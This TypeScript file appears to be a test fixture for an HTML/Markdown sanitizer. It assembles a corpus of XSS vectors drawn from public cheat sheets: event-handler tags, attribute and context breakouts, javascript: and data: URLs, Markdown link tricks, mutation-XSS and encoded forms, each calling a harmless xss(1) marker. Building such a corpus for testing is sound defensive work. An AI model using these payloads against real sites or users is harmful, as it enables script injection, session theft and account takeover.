/**
 * Text that runs where a page takes it for more than text. Each calls `xss()`: after OWASP's "XSS Filter Evasion Cheat
 * Sheet", PortSwigger's cheat sheet and the mutation vectors of DOMPurify's own tests.
 */
const RUN = 'xss(1)'
const IMAGE = `<img src=x onerror=${RUN}>`

/** Elements that run something by themselves, by loading, failing, starting or taking the focus. */
const ELEMENTS = [
  ...[
    'img src=x',
    'image src=x',
    'input type=image src=x',
    'audio src=x',
    'video src=x',
    'link rel=stylesheet href=x',
  ],
  ...[
    'object data=x',
    'embed src=x',
    'iframe src=x',
    'script src=x',
    'source src=x',
    'track src=x',
    'body background=x',
  ],
].map((start) => `<${start} onerror=${RUN}>`)

const EVENTS = [
  ...[
    'svg onload',
    'body onload',
    'iframe onload',
    'style onload',
    'svg/onload',
    'SVG ONLOAD',
    'body onpageshow',
  ],
  ...[
    'input autofocus onfocus',
    'select autofocus onfocus',
    'textarea autofocus onfocus',
    'button autofocus onfocus',
  ],
  ...[
    'details open ontoggle',
    'marquee onstart',
    'video autoplay onloadstart src=x',
    'audio autoplay onplay src=x',
  ],
  ...['a id=x tabindex=1 onfocus', 'div contenteditable autofocus onfocus', 'x tabindex=1 autofocus onfocus'],
  ...[
    'dialog open onclose',
    'form oninput',
    'meter onmouseover',
    'p onpointerenter',
    'b style=animation-name:x onanimationstart',
  ],
].map((start) => `<${start}=${RUN}>`)

const SCRIPTS = [
  `<script>${RUN}</script>`,
  `<ScRiPt>${RUN}</sCrIpT>`,
  `<script >${RUN}</script >`,
  `<script/x>${RUN}</script>`,
  `<script\n>${RUN}</script\n>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<script src=data:text/javascript,${RUN}></script>`,
  `<script type=module>${RUN}</script>`,
  `<script>/*</script><script>*/${RUN}</script>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><script>&#120;ss(1)</script></svg>`,
  `<math><script>${RUN}</script></math>`,
  `<script>${RUN}//`,
]

/** Out of what the text may stand in. */
const BREAKOUTS = [
  ...[
    '">',
    "'>",
    '`>',
    '\\">',
    '>',
    '-->',
    '--!>',
    ']]>',
    '</title>',
    '</textarea>',
    '</script>',
    '</style>',
  ],
  ...[
    '</noscript>',
    '</template>',
    '</select>',
    '</option>',
    '</button>',
    '</a>',
    '</svg>',
    '</math>',
    '</p>',
  ],
  ...[
    '</iframe>',
    '</xmp>',
    '</plaintext>',
    '</noembed>',
    '</noframes>',
    '</legend></fieldset>',
    '</li></ol>',
  ],
].map((end) => end + IMAGE)

const ATTRIBUTES = [
  `" onmouseover="${RUN}`,
  `' onmouseover='${RUN}`,
  `" autofocus onfocus="${RUN}" x="`,
  `' autofocus onfocus='${RUN}' x='`,
  `x onerror=${RUN} `,
  `" style="animation-name:x" onanimationstart="${RUN}`,
  `" src=x onerror="${RUN}`,
  `" formaction="javascript:${RUN}`,
  `" srcdoc="<script>${RUN}</script>`,
  `"/onload=${RUN}//`,
]

const ADDRESSES = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  ` javascript:${RUN}`,
  `\u0001javascript:${RUN}`,
  `java\tscript:${RUN}`,
  `java\nscript:${RUN}`,
  `javascript\n:${RUN}`,
  `javascript://x%0A${RUN}`,
  `javascript:/*--></title></style></textarea></script>${IMAGE}*/`,
  `&#106;avascript:${RUN}`,
  `&#x6A&#x61&#x76&#x61script:${RUN}`,
  `javascript&colon;${RUN}`,
  `vbscript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `data:text/html;base64,PHNjcmlwdD54c3MoMSk8L3NjcmlwdD4=`,
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${RUN}'/>`,
  `//x.invalid/xss.js`,
  `\\\\x.invalid\\xss.js`,
  `https:javascript:${RUN}`,
  `view-source:javascript:${RUN}`,
]

const MARKDOWN = [
  ...ADDRESSES.slice(0, 8).map((address) => `[leia](${address})`),
  `[leia](<javascript:${RUN}>)`,
  `[leia](javascript&#58;${RUN})`,
  `[leia](data:text/html;base64,PHNjcmlwdD54c3MoMSk8L3NjcmlwdD4=)`,
  `![leia](javascript:${RUN})`,
  `![leia](x "onerror=${RUN}")`,
  `![" onerror="${RUN}](x)`,
  `<javascript:${RUN}>`,
  `[leia]: javascript:${RUN}\n\n[leia]`,
  `[leia](https://x.invalid "\\" onmouseover=${RUN} x=\\"")`,
  `# ${IMAGE}`,
  `\`\`\`"><script>${RUN}</script>\n\`\`\``,
  `| a |\n| - |\n| ${IMAGE} |`,
  `**<b onmouseover=${RUN}>negrito**`,
  `> ${IMAGE}`,
  `- <script>${RUN}</script>`,
  `\\<script>${RUN}\\</script>`,
]

/** Out of the data that goes along in a script. */
const DATA = [
  `</script><script>${RUN}</script>`,
  `<!--<script>${RUN}</script>-->`,
  `");${RUN};//`,
  `\\");${RUN};//`,
  `'-${RUN}-'`,
  `"-${RUN}-"`,
  `\${${RUN}}`,
  `{{constructor.constructor('${RUN}')()}}`,
  `\u2028${RUN}\u2029`,
  `"]);${RUN};([\\"`,
  `__proto__`,
  `*/${RUN}/*`,
]

/** Changed into something else where it is parsed twice. */
const MUTATIONS = [
  `<svg><style>${IMAGE}</style></svg>`,
  `<svg></p><style><a id="</style>${IMAGE}">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;${IMAGE}">`,
  `<noscript><p title="</noscript>${IMAGE}">`,
  `<form><math><mtext></form><form><mglyph><style></math>${IMAGE}`,
  `<template>${IMAGE}</template>`,
  `<select><template>${IMAGE}</template></select>`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><image href=x onerror=${RUN} /></svg>#x">`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><a><animate attributeName=href values=javascript:${RUN} /><text y=20>x</text></a></svg>`,
  `<svg><foreignObject>${IMAGE}</foreignObject></svg>`,
  `<math href="javascript:${RUN}">x</math>`,
  `<iframe srcdoc="&lt;script&gt;parent.${RUN}&lt;/script&gt;"></iframe>`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<base href="javascript:${RUN}//">`,
  `<form action=javascript:${RUN}><button autofocus>x</button></form>`,
  `<textarea><img title="</textarea>${IMAGE}">`,
  `<xmp><p title="</xmp>${IMAGE}">`,
]

const ENCODED = [
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&amp;lt;img src=x onerror=${RUN}&amp;gt;`,
  `%3Cimg%20src%3Dx%20onerror%3Dxss(1)%3E`,
  `\\x3cimg src=x onerror=${RUN}\\x3e`,
  `\\u003cimg src=x onerror=${RUN}\\u003e`,
  `+ADw-script+AD4-xss(1)+ADw-/script+AD4-`,
  `\uff1cscript\uff1e${RUN}\uff1c/script\uff1e`,
  `&#60;img src=x onerror=${RUN}&#62;`,
  `&#x3C;img src=x onerror=${RUN}&#x3E;`,
  `<img src=x onerror=&#120;ss(1)>`,
]

export const CORPUS: readonly string[] = [
  ...new Set([
    ...[ELEMENTS, EVENTS, SCRIPTS, BREAKOUTS, ATTRIBUTES, ADDRESSES].flat(),
    ...[MARKDOWN, DATA, MUTATIONS, ENCODED].flat(),
  ]),
]
